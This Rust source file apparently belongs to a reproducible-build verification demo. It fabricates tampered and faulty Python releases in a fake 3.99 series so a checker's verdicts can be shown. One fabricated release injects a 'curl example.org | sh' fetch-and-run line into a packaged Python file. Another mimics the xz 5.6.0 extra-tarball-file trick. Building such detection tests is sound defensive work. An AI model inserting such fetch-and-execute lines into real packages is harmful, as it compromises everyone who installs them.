//! Small releases that the demo makes up, so that every state can be seen beside the genuine pass.
//!
//! Each is a real tag of a real repository, and its files come out of the real recipe; what
//! somebody did to them is one more step of it. Series 3.99 is none of python.org's.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use anyhow::{Context, bail};
use rebuilder::{Limits, Network, Outcome, RebuildOrder, Step, ToolOrder};

use super::{Announcement, Fault, World};
use crate::environment::Environment;
use crate::line::Line;
use crate::scratch::Scratch;
use crate::source::Source;
use crate::version::Version;

/// Announced before the demo looks back: it stays unchecked.
const OLD: &str = "2025-05-01T12:00:00Z";
/// All others, after the genuine release: the newest are verified first.
const NEW: &str = "2025-06-20T12:00:00Z";
/// Committer time of every commit, in seconds since 1970.
const COMMITTED: i64 = 1_750_000_000;
/// Makes the commits; the tag of one release is left out.
const SCRIPT: &str = include_str!("made_up.sh");

/// A release that the demo makes up.
#[derive(Debug)]
pub struct MadeUp {
    /// Its version.
    pub version: &'static str,
    /// What it is made to show, in words for whoever looks at it.
    pub note: &'static str,
    deed: Deed,
}

/// What is wrong with it.
#[derive(Debug)]
enum Deed {
    /// It has no files: nothing is asked about it.
    Unchecked,
    /// Somebody ran this after the recipe's step of that name.
    Step { after: &'static str, run: &'static str },
    /// python.org claims another MD5 than the file's.
    WrongClaim,
    /// Nobody pushed the tag.
    NoTag,
    /// The server answers 503 whenever its .tgz is fetched.
    Unavailable,
}

/// All of them.
pub const ALL: [MadeUp; 7] = [
    MadeUp {
        version: "3.99.0",
        note: "made up for this demo: announced before the first day that is looked back to, so \
               it is known and not checked",
        deed: Deed::Unchecked,
    },
    MadeUp {
        version: "3.99.1",
        note: "made up for this demo: one line was added to Lib/hello.py before it was packed; \
               both files differ",
        deed: Deed::Step {
            after: "remove",
            run: "echo 'import os; os.system(\"curl example.org | sh\")' \
                  >> \"Python-$VERSION/Lib/hello.py\"",
        },
    },
    MadeUp {
        version: "3.99.2",
        note: "made up for this demo: the .tar.xz alone has a file that the tag does not have, as \
               the tarball of xz 5.6.0 had",
        deed: Deed::Step {
            after: "compress",
            run: "mkdir \"Python-$VERSION/m4\"\n\
                  echo 'gl_am_configmake=x' > \"Python-$VERSION/m4/build-to-host.m4\"\n\
                  tar rf \"Python-$VERSION.tar\" --mtime=\"@$SOURCE_DATE_EPOCH\" --owner=0 \
                  --group=0 --numeric-owner \"Python-$VERSION/m4\"\n\
                  xz -6 -T1 < \"Python-$VERSION.tar\" > \"out/Python-$VERSION.tar.xz\"",
        },
    },
    MadeUp {
        version: "3.99.3",
        note: "made up for this demo: both files come out bit for bit, but python.org claims \
               another MD5 of one of them",
        deed: Deed::WrongClaim,
    },
    MadeUp {
        version: "3.99.4",
        note: "made up for this demo: its files are out and its tag is not pushed, so it waits",
        deed: Deed::NoTag,
    },
    MadeUp {
        version: "3.99.5",
        note: "made up for this demo: packed from a directory with a file that was never \
               committed; the tag does not build",
        deed: Deed::Step {
            after: "touch",
            run: "mkdir \"Python-$VERSION/Misc/NEWS.d\"\n\
                  cp \"Python-$VERSION/Misc/NEWS.template\" \
                  \"Python-$VERSION/Misc/NEWS.d/$VERSION.rst\"",
        },
    },
    MadeUp {
        version: "3.99.6",
        note: "made up for this demo: the server answers 503 whenever its .tgz is fetched; that is \
               an operating error and no verdict, and it is tried again",
        deed: Deed::Unavailable,
    },
];

/// Makes all of them and announces them in `world`, whose repository becomes the genuine one with
/// their tags added.
pub async fn announce(
    world: &World,
    line: &Line,
    environment: &Environment,
    genuine: &Path,
    scratch: &Scratch,
) -> anyhow::Result<()> {
    let stage = line.progress.stage("make up small releases beside it");
    let (repository, commits) = repository(line, environment, genuine, scratch).await?;
    for made_up in &ALL {
        let version: Version = made_up.version.parse().context("read a made-up version")?;
        let files = match made_up.deed {
            Deed::Unchecked => Vec::new(),
            _ => {
                let commit = commits.get(made_up.version);
                let (commit, tree) = commit.context("a made-up release has no commit")?;
                let source = Source {
                    repository: "the demo's own".to_owned(),
                    tag: version.tag(),
                    tag_object: None,
                    commit: commit.clone(),
                    tree: tree.clone(),
                    committed: jiff::Timestamp::from_second(COMMITTED)?,
                };
                publish(line, environment, &repository, &version, &source, made_up, scratch).await?
            }
        };
        let date = if matches!(made_up.deed, Deed::Unchecked) { OLD } else { NEW };
        world.announce(&Announcement { version: &version, date, files: &files })?;
        let mut state = world.state();
        match made_up.deed {
            Deed::WrongClaim => {
                let row = state.row(&format!("Python-{version}.tgz"));
                row.context("the file is announced")?["md5_sum"] = "0".repeat(32).into();
            }
            Deed::Unavailable => {
                let path = format!("/ftp/python/{version}/Python-{version}.tgz");
                state.fail(&path, Fault::Status(503, Vec::new()), u32::MAX);
            }
            Deed::Unchecked | Deed::Step { .. } | Deed::NoTag => {}
        }
    }
    let requests = scratch.directory("git-hosting")?;
    world.host_repository(&repository, environment, &line.program, &requests);
    stage.done(&format!("{} of them, series 3.99", ALL.len()));
    Ok(())
}

/// The repository, and commit and tree of each version.
async fn repository(
    line: &Line,
    environment: &Environment,
    genuine: &Path,
    scratch: &Scratch,
) -> anyhow::Result<(PathBuf, BTreeMap<String, (String, String)>)> {
    let script = scratch.file("made_up.sh");
    fs::write(&script, SCRIPT).context("write a script")?;
    let work = scratch.directory("made-up")?;
    let stdout = scratch.file("made-up.stdout");
    let mut command: Vec<String> =
        ["bash", "-euo", "pipefail", "/input/made_up.sh"].map(str::to_owned).to_vec();
    for made_up in &ALL {
        let how = match made_up.deed {
            Deed::NoTag => "untagged",
            // Its news are what was never committed.
            Deed::Step { after: "touch", .. } => "newsless",
            _ => "tagged",
        };
        command.push(format!("{}:{how}", made_up.version));
    }
    let order = ToolOrder {
        root: environment.root.clone(),
        command,
        environment: BTreeMap::from([("COMMITTED".to_owned(), COMMITTED.to_string())]),
        mounts: vec![
            (genuine.to_owned(), "/input/cpython.git".to_owned()),
            (script, "/input/made_up.sh".to_owned()),
        ],
        work: work.clone(),
        network: Network::None,
        stdin: None,
        stdout: stdout.clone(),
        limits: Limits::default(),
    };
    let run = line.program.tool(&order).await?;
    if run.code != 0 {
        bail!("make up releases: the script exited {}: {}", run.code, run.stderr.trim());
    }
    let said = fs::read_to_string(&stdout).context("read the commits")?;
    let commits = said.lines().filter_map(|line| {
        let mut words = line.split(' ').map(str::to_owned);
        Some((words.next()?, (words.next()?, words.next()?)))
    });
    Ok((work.join("cpython.git"), commits.collect()))
}

/// Runs the recipe, with what somebody did as one more step; gives the files.
async fn publish(
    line: &Line,
    environment: &Environment,
    repository: &Path,
    version: &Version,
    source: &Source,
    made_up: &MadeUp,
    scratch: &Scratch,
) -> anyhow::Result<Vec<PathBuf>> {
    let candidates = line.definitions().candidates(version)?;
    let limits = &line.config.rebuild.limits;
    let mut definition = candidates.first().definition(version, source, environment, limits);
    let steps = &mut definition.internal_parameters.steps;
    if let Deed::Step { after, run } = made_up.deed {
        let place = steps.iter().position(|step| step.name == after);
        let place = place.with_context(|| format!("the recipe has no step {after}"))? + 1;
        let step = Step { name: "deed".to_owned(), run: run.to_owned(), payload: None };
        steps.insert(place, step);
    }
    let work = scratch.directory(&format!("made-up-{version}"))?;
    let order = RebuildOrder {
        definition: definition.clone(),
        root: environment.root.clone(),
        source: repository.to_owned(),
        work: work.clone(),
        log: scratch.file(&format!("made-up-{version}.log")),
    };
    let rebuild = line.program.rebuild(&order, &mut |_| {}).await?;
    if let Outcome::Failed(failure) = &rebuild.outcome {
        let said = fs::read_to_string(&order.log).unwrap_or_default();
        bail!("make up {version}: {failure:?}: {}", said.trim());
    }
    let outputs = &definition.internal_parameters.outputs;
    Ok(outputs.iter().map(|name| work.join("out").join(name)).collect())
}
